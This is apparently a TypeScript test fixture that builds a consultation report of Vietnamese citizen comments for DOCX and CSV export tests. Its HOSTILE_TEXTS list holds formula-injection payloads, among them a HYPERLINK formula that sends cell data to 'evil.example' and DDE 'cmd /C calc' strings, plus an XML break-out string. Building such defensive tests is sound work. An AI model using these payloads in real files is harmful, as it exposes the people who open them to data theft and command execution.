// A small report with hostile citizen text, for the DOCX and CSV export tests.
import { CLOSES, reportComment, reportDraft, reportUnits } from '../app/report/report.fixtures.js';
import { SynthesisAccumulator } from '../app/report/synthesis-accumulator.js';
import type { ReportRow, SynthesisReport } from '../app/report/synthesis-report.model.js';

export const HIDDEN_MARKER = 'HIDDEN-SECRET-7731';

/** Text a spreadsheet would run, or that would break XML, as citizens may send it. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+84912345678 gọi ngay',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1 (dấu bằng toàn khoảng)',
  'Ký tự điều khiển \u0001\u0007 và nửa cặp \uD800 ở giữa',
  '</w:t></w:r><w:r><w:t>INJECTED',
  'Dòng một\nDòng hai, "trích dẫn", dấu; phẩy',
  // The longest text a comment may have.
  `Rất dài ${'ý kiến '.repeat(1427)}`.slice(0, 10_000),
] as const;

export function exportsFixture(
  view: 'public' | 'agency' = 'public',
  now = new Date(CLOSES.getTime() + 3_600_000),
): {
  report: SynthesisReport;
  rows: ReportRow[];
} {
  const acc = new SynthesisAccumulator({
    draft: reportDraft(),
    units: reportUnits(),
    view,
    now,
  });
  const answer = {
    outcome: 'partly_accepted' as const,
    reason: 'Tiếp thu, giảm mức giá xuống 25.000 đồng',
    changedArticleIds: ['a2'],
    published: true,
  };
  for (let i = 0; i < 40; i++)
    acc.add(
      reportComment({
        id: i === 0 ? 'rep' : `camp-${i}`,
        text:
          i === 0 ? 'Đề nghị giảm mức giá thu gom rác' : `De nghi giam muc gia thu gom rac ${i}`,
        group: { id: 'g-campaign', exactKey: 'de nghi giam', representativeId: 'rep' },
        answer,
        channel: i % 2 ? 'sms' : 'zalo',
        verified: i % 3 === 0,
        personKey: `camp-person-${i}`,
        demographics: {
          ethnicGroup: i % 10 === 0 ? 'Mông' : 'Kinh',
          gender: i % 2 ? 'female' : 'male',
        },
      }),
    );
  HOSTILE_TEXTS.forEach((text, i) =>
    acc.add(reportComment({ text, articleId: i % 2 ? 'a1' : null, stance: 'suggest_change' })),
  );
  acc.add(
    reportComment({
      articleId: 'a3',
      text: 'Giữ quy định miễn cho hộ nghèo',
      submitter: { kind: 'organization', label: 'Hội Liên hiệp Phụ nữ tỉnh' },
      answer: {
        outcome: 'not_accepted',
        reason: 'Chính sách miễn chuyển sang quyết định khác',
        changedArticleIds: [],
        published: true,
      },
    }),
  );
  for (const reason of ['spam', 'offensive', 'personal_data'] as const)
    acc.add(
      reportComment({
        text: `${HIDDEN_MARKER} ${reason}`,
        moderation: { state: 'hidden', reason },
      }),
    );
  // A hidden copy in the campaign group: counted, its text nowhere.
  acc.add(
    reportComment({
      text: `${HIDDEN_MARKER} trong nhóm`,
      group: { id: 'g-campaign', exactKey: 'de nghi giam', representativeId: 'rep' },
      moderation: { state: 'hidden', reason: 'offensive' },
    }),
  );
  return { report: acc.result(), rows: [...acc.rows()] };
}
